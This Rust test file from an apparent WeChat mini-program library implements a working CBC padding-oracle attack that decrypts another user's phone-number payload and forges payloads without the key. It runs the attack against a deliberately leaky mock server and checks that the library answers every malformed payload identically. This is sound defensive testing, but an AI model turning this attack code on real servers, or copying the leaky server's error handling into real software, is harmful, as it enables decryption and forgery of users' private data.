//! An attacker who has a payload, may send the server any number of payloads, and sees every response.
//!
//! The attack is the textbook's: of 256 payloads that differ in one byte, the one with the right padding gets another
//! response, which reveals one byte of the deciphered block. It is tried on a leaky server, to show that it works, and
//! on this crate.
#![expect(clippy::unwrap_used, reason = "a test")]

use std::collections::BTreeMap;

use aes::Aes128;
use cbc::{
    Decryptor, Encryptor,
    cipher::{
        BlockModeDecrypt, BlockModeEncrypt, KeyIvInit,
        block_padding::{NoPadding, Pkcs7},
    },
};
use data_encoding::BASE64;
use weixin::{
    AppSecret, MiniProgram,
    mini_program::{EncryptedData, SessionKey},
};

const APP: &str = "wx0123456789abcde2";
const SESSION_KEY: &str = "MDEyMzQ1Njc4OWFiY2RlZg==";
const PHONE: &str = r#"{"phoneNumber":"13800001234","purePhoneNumber":"13800001234","countryCode":"86","watermark":{"timestamp":1700000000,"appid":"wx0123456789abcde2"}}"#;

type Block = [u8; 16];

fn session_key() -> SessionKey {
    SessionKey::new(SESSION_KEY).unwrap()
}

fn app() -> MiniProgram {
    let secret = AppSecret::new("s".repeat(32)).unwrap();
    MiniProgram::new(APP.parse().unwrap(), secret).unwrap()
}

/// The response of a server to a payload, as text.
trait Server {
    fn respond(&mut self, payload: &EncryptedData) -> String;
}

impl<F: FnMut(&EncryptedData) -> String> Server for F {
    fn respond(&mut self, payload: &EncryptedData) -> String {
        self(payload)
    }
}

/// A server that distinguishes a wrong padding from everything else, as this crate's first version did.
fn leaky(payload: &EncryptedData) -> String {
    let [key, iv] = [SESSION_KEY, &payload.iv].map(block_of);
    let mut data = BASE64.decode(payload.encrypted_data.as_bytes()).unwrap();
    let plain =
        Decryptor::<Aes128>::new(&key.into(), &iv.into()).decrypt_padded::<Pkcs7>(&mut data);
    match plain {
        Ok(_) => "unexpected content".to_owned(),
        Err(_) => "wrong padding".to_owned(),
    }
}

fn block_of(text: &str) -> Block {
    BASE64.decode(text.as_bytes()).unwrap().try_into().unwrap()
}

/// A payload of these blocks, the first of which is the initialization vector.
fn payload(blocks: &[Block]) -> EncryptedData {
    EncryptedData {
        iv: BASE64.encode(&blocks[0]),
        encrypted_data: BASE64.encode(&blocks[1..].concat()),
    }
}

/// Initialization vector and blocks of a payload.
fn blocks(payload: &EncryptedData) -> Vec<Block> {
    let data = BASE64.decode(payload.encrypted_data.as_bytes()).unwrap();
    let (blocks, rest) = data.as_chunks();
    assert!(rest.is_empty());
    [&[block_of(&payload.iv)], blocks].concat()
}

fn xor(one: Block, other: Block) -> Block {
    std::array::from_fn(|index| one[index] ^ other[index])
}

/// Those of the 256 values of a byte whose response is not the usual one.
fn odd_ones(server: &mut impl Server, mut iv: Block, block: Block, position: usize) -> Vec<u8> {
    let mut by_response: BTreeMap<String, Vec<u8>> = BTreeMap::new();
    for guess in 0..=u8::MAX {
        iv[position] = guess;
        let response = server.respond(&payload(&[iv, block]));
        by_response.entry(response).or_default().push(guess);
    }
    let odd = by_response
        .into_values()
        .filter(|guesses| guesses.len() < 128);
    odd.flatten().collect()
}

/// A block as the cipher deciphers it, before the previous block is added; `None` if the responses do not reveal it.
fn decipher(server: &mut impl Server, block: Block) -> Option<Block> {
    let mut state = [0; 16];
    for position in (0..16).rev() {
        let padding = u8::try_from(16 - position).unwrap();
        let mut iv = [0; 16];
        for known in position + 1..16 {
            iv[known] = state[known] ^ padding;
        }
        let mut odd = odd_ones(server, iv, block, position);
        if odd.len() > 1 && position > 0 {
            // By chance a longer padding fits as well. It does not if the byte before is another one.
            iv[position - 1] ^= 1;
            let others = odd_ones(server, iv, block, position);
            odd.retain(|guess| others.contains(guess));
        }
        state[position] = odd.first()? ^ padding;
    }
    Some(state)
}

/// The text of another user's payload.
fn read(server: &mut impl Server, stolen: &EncryptedData) -> Option<String> {
    let blocks = blocks(stolen);
    let mut plain = Vec::new();
    for pair in blocks.windows(2) {
        plain.extend(xor(decipher(server, pair[1])?, pair[0]));
    }
    let length = plain.len() - usize::from(*plain.last()?);
    String::from_utf8(plain[..length].to_vec()).ok()
}

/// A payload that decrypts to `text`, made without the key.
fn forge(server: &mut impl Server, text: &str) -> Option<EncryptedData> {
    let padding = 16 - text.len() % 16;
    let mut plain = text.as_bytes().to_vec();
    plain.resize(text.len() + padding, u8::try_from(padding).unwrap());
    let mut blocks = vec![*b"the last of them"];
    for wanted in plain.as_chunks().0.iter().rev() {
        let state = decipher(server, *blocks.last()?)?;
        blocks.push(xor(state, *wanted));
    }
    blocks.reverse();
    Some(payload(&blocks))
}

/// The payload with another user's phone number.
fn stolen() -> EncryptedData {
    let [key, iv] = [block_of(SESSION_KEY), *b"abcdefghijklmnop"];
    let cipher = Encryptor::<Aes128>::new(&key.into(), &iv.into());
    EncryptedData {
        iv: BASE64.encode(&iv),
        encrypted_data: BASE64.encode(&cipher.encrypt_padded_vec::<Pkcs7>(PHONE.as_bytes())),
    }
}

/// A block as the cipher deciphers it, with the key.
fn deciphered(mut block: Block) -> Block {
    let key = block_of(SESSION_KEY);
    Decryptor::<Aes128>::new(&key.into(), &[0; 16].into())
        .decrypt_padded::<NoPadding>(&mut block)
        .unwrap();
    block
}

const FORGED: &str = r#"{"phoneNumber":"13911112222","purePhoneNumber":"13911112222","watermark":{"appid":"wx0123456789abcde2"}}"#;

#[test]
fn a_server_that_reveals_a_wrong_padding_lets_the_attacker_read_and_forge_payloads() {
    assert_eq!(read(&mut leaky, &stolen()).as_deref(), Some(PHONE));
    let forged = forge(&mut leaky, FORGED).unwrap();
    let phone = app().decrypt_phone(&session_key(), &forged).unwrap();
    assert_eq!(phone.data.phone_number, "13911112222");
}

/// Everything that is visible of this crate's response to a payload, as a phone number and as a profile.
fn seen(app: &MiniProgram, payload: &EncryptedData) -> String {
    let phone = app.decrypt_phone(&session_key(), payload).map(|_| ());
    let profile = app.decrypt_profile(&session_key(), payload).map(|_| ());
    // The type has no other way to differ.
    assert_eq!(phone, profile);
    match phone {
        Ok(()) => "decrypted".to_owned(),
        Err(error) => format!(
            "{error}; {error:?}; {:?}",
            std::error::Error::source(&error)
        ),
    }
}

#[test]
fn this_crate_responds_to_every_payload_of_the_attacker_alike() {
    let app = app();
    let mut responses: BTreeMap<String, u32> = BTreeMap::new();
    let mut server = |payload: &EncryptedData| {
        let response = seen(&app, payload);
        *responses.entry(response.clone()).or_default() += 1;
        response
    };
    assert_eq!(read(&mut server, &stolen()), None);
    assert_eq!(forge(&mut server, FORGED), None);
    // The attacker knows by other means which paddings are right, and sends those, and nearly right ones.
    for block in blocks(&stolen()) {
        let state = deciphered(block);
        for padding in 0..=u8::MAX {
            let mut plain = *b"{} and much more";
            let length = usize::from(padding).min(16);
            plain[16 - length..].fill(padding);
            server.respond(&payload(&[xor(state, plain), block]));
            plain[15] = padding.wrapping_add(1);
            server.respond(&payload(&[xor(state, plain), block]));
        }
    }
    // The payload itself, with one bit of it changed.
    let stolen = blocks(&stolen());
    for (index, bit) in (1..stolen.len()).flat_map(|index| (0..128).map(move |bit| (index, bit))) {
        let mut changed = stolen.clone();
        changed[index][bit / 8] ^= 1 << (bit % 8);
        server.respond(&payload(&changed));
    }
    insta::assert_debug_snapshot!(responses, @r#"
    {
        "the payload cannot be decrypted: let the mini program call wx.login, get the payload after that, and send both together; PayloadError; None": 7424,
    }
    "#);
}
